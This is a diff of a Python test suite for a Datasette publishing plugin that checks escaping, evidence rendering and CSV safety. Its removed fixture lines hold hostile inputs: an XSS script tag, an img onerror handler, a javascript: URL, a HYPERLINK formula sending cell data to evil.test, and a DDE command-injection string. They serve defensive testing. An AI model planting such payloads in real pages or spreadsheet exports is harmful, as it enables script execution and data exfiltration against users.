@@ -3,9 +3,11 @@
 import asyncio
 import csv
 import io
+import json
 import re
 import sqlite3
 from collections.abc import Callable, Iterator
+from html import unescape
 from pathlib import Path
 
 import httpx
@@ -13,83 +15,13 @@ import pytest
 from datasette.app import Datasette
 from datasette.database import Database
 from datasette.plugins import pm
+from small_world import CONFIG, FORMULA, HOSTILE, fill
 
 from crawler.publishing import PublishingError, build, listening, stored_secret
 from pipelines.storing.database import StorageError, open_database
 
-CONFIG = Path(__file__).parent.parent / "datasette"
 VIEWS = "findings unlinked prospects referring_sites link_intersect lost_links anchor_texts earning_formats coverage"
-HOSTILE = "<script>document.title='owned'</script>"
-FORMULA = '=HYPERLINK("http://evil.test/?x="&A1)'
-SEEN = "2025-11-20T08:00:00Z"
 Get = Callable[..., httpx.Response]
-
-
-def insert(db: sqlite3.Connection, table: str, **values: object) -> int:
-    """Insert one row, with an empty text, 0 or a date for every column that must not be null, and return its id."""
-    row: dict[str, object] = {}
-    for _, name, kind, notnull, default, pk in db.execute(f"pragma table_info({table})"):
-        if notnull and not pk and default is None:
-            row[name] = SEEN if name.endswith(("_seen", "_at", "found", "started")) else 0 if kind != "TEXT" else ""
-    row |= values
-    marks = ", ".join("?" * len(row))
-    return db.execute(f"insert into {table} ({', '.join(row)}) values ({marks})", list(row.values())).lastrowid or 0
-
-
-def fill(path: Path) -> None:
-    """Make a database of a small world at `path`: two competitors, ten sites, links, and hostile texts."""
-    db = open_database(path)
-    for name, role in (("Acme", "own"), ("Globex", "competitor"), ("Initech", "competitor")):
-        host = f"{name.lower()}.test"
-        insert(db, "brands", name=name, role=role, domains=f'["{host}"]', sites=f'["{host}"]', profiles="[]",
-               aliases="[]", cased_aliases="[]", context="[]", exclude="[]", handles="[]")  # fmt: skip
-    crawl = insert(db, "crawls", spider="resources", seeds="seeds.txt", brands_file="brands.toml")
-    titles = (
-        "Ten workshops worth a visit",
-        "Tools we use every day",
-        "The history of the anvil",
-        "What to buy in spring",
-    )
-    for number in range(10):
-        site = f"site{number}.example"
-        insert(db, "sites", site=site)
-        page = insert(db, "pages", url=f"https://www.{site}/guides/the-long-way-to-a-good-workshop/{number}/resources.html",
-                      site=site, status=200, page_read="read", title=titles[number % 4], page_type="list", links_out=3,
-                      published="2026-05-01", spider="resources", crawl_id=crawl)  # fmt: skip
-        link = None
-        if number % 3 == 0:
-            link = insert(db, "links", page_id=page, brand="Acme", url="https://acme.test/", target="https://acme.test/",
-                          owned="domain", anchor="Acme", kind="text", region="main", followed=1, ordinal=1)  # fmt: skip
-        for brand in ("Globex", "Initech"):
-            insert(db, "links", page_id=page, brand=brand, url=f"https://{brand.lower()}.test/", owned="domain",
-                   anchor=brand, kind="text", region="main", followed=1, ordinal=1,
-                   missing_since="2026-11-01T00:00:00Z" if number == 9 else None,
-                   missing_checked="2026-11-02T00:00:00Z" if number == 9 else None)  # fmt: skip
-        insert(db, "mentions", page_id=page, brand="Acme", surface="Acme", alias="Acme", match="name", score=90,
-               region="main", before="For heavy work many smiths in our town still order their hammers from ",
-               after=" and wait the four weeks, since nothing else lasts", link_state="linked" if link else "unlinked",
-               link_id=link, ordinal=1, evidence='{"name that only means the brand": 90.0}')  # fmt: skip
-        insert(db, "contacts", site=site, email=f"hello@{site}", source_url=f"https://{site}/about")
-    insert(db, "sites", site="evil.example")
-    page = insert(db, "pages", url="javascript:alert(1)", site="evil.example", status=200, page_read="read",
-                  title=HOSTILE, page_type="article", links_out=1, spider="news", crawl_id=crawl)  # fmt: skip
-    insert(db, "mentions", page_id=page, brand="Acme", surface=f"Acme{HOSTILE}", alias="Acme", match="name", score=70,
-           region="main", before=FORMULA + "\nsecond, \"line\"", after="<img src=x onerror=alert(1)>", ordinal=1,
-           link_state="unlinked", evidence="[]")  # fmt: skip
-    insert(db, "events", kind="link_missed", page_id=page, brand="Acme", at=SEEN)
-    insert(db, "outreach", site="site1.example", brand="Acme", note="-2+3+cmd|' /C calc'!A0")
-    insert(db, "suppressions", kind="site", value="site2.example", added_at=SEEN)
-    insert(
-        db,
-        "frontier",
-        fingerprint=b"\x01\x02",
-        url="https://site1.example/",
-        site="site1.example",
-        spider="news",
-        queued=SEEN,
-    )
-    db.commit()
-    db.close()
 
 
 @pytest.fixture
@@ -143,7 +75,7 @@ def test_every_column_is_described_and_nothing_else(datasette: Datasette, db: sq
 def test_every_page_that_the_index_leads_to_opens(get: Get) -> None:
     assert [item["name"] for item in get("/-/databases.json").json()] == ["mentions"]
     front = get("/").text
-    assert all(f'href="/mentions/{view}"' in front for view in VIEWS.split())
+    assert all(f'href="/mentions/{view}"' in front for view in (*VIEWS.split(), "reasons"))
     seen: set[str] = set()
     waiting = ["/", "/mentions", "/mentions?_show_hidden=1"]
     while waiting:
@@ -176,7 +108,7 @@ def test_facets_count_values(get: Get) -> None:
 
 
 def test_cells_are_highlighted_and_never_run(get: Get) -> None:
-    for path in ("findings", "unlinked", "prospects", "mentions", "pages", "new_mentions"):
+    for path in ("findings", "unlinked", "prospects", "mentions", "pages", "new_mentions", "refused", "reasons"):
         page = get(f"/mentions/{path}").text
         assert HOSTILE not in page
         assert "<img src=x" not in page
@@ -190,6 +122,42 @@ def test_cells_are_highlighted_and_never_run(get: Get) -> None:
     columns = re.findall(r'data-column="(\w+)"\s+data-column-type', page)
     assert columns[:4] == ["site", "brand", "link_state", "context"]
     assert set(columns) == {*get("/mentions/findings.json").json()["columns"]}
+
+
+def text_of(html: str) -> str:
+    return " ".join(unescape(re.sub("<[^>]+>", "", html)).split())
+
+
+def evidence_of(page: str) -> list[str]:
+    return [text_of(cell) for cell in re.findall(r'<td class="col-evidence[^>]*>(.*?)</td>', page, re.DOTALL)]
+
+
+def test_reasons_are_told_in_words_for_accepted_and_refused(get: Get) -> None:
+    refused = f"written like the name +50 · exclude word: {HOSTILE} -85.5 = 0, refused"
+    assert evidence_of(get("/mentions/refused").text) == [refused]
+    [accepted] = {*evidence_of(get("/mentions/mentions?_size=10&_sort=id").text)}
+    assert accepted == "name that only means the brand +90 = 90, accepted"
+    assert evidence_of(get("/mentions/mentions/11").text) == ["[]"]  # no evidence that it knows: as it is
+    page = get("/mentions/reasons?verdict=refused").text
+    assert (evidence_of(page), HOSTILE in page) == ([refused], False)
+    assert 'href="/mentions/refused/1"' in page and '<span class="badge badge-refused">' in page
+    facets = get("/mentions/reasons.json").json()["facet_results"]["verdict"]["results"]
+    assert {item["value"]: item["count"] for item in facets} == {"accepted": 11, "refused": 1}
+
+
+@pytest.mark.parametrize(
+    "evidence", ["", "x", "[1]", '{"a": "b"}', '{"a": 1e999}', '{"a": null}', "[" * 9999, "1" * 5000]
+)
+def test_evidence_that_is_none_of_ours_is_left_to_datasette(datasette: Datasette, evidence: str) -> None:
+    assert (
+        pm.get_plugin("highlight.py").render_cell({}, evidence, "evidence", "mentions", "mentions", datasette) is None
+    )
+
+
+def test_evidence_is_bounded(datasette: Datasette) -> None:
+    many = json.dumps({f"{number} {'x' * 999}": 1 for number in range(99)})
+    cell = pm.get_plugin("highlight.py").render_cell({}, many, "evidence", None, "mentions", datasette)
+    assert text_of(cell).endswith(" · 69 more = 99") and len(cell) < 9999
 
 
 def test_csv_is_safe_to_open_in_a_spreadsheet(get: Get) -> None:
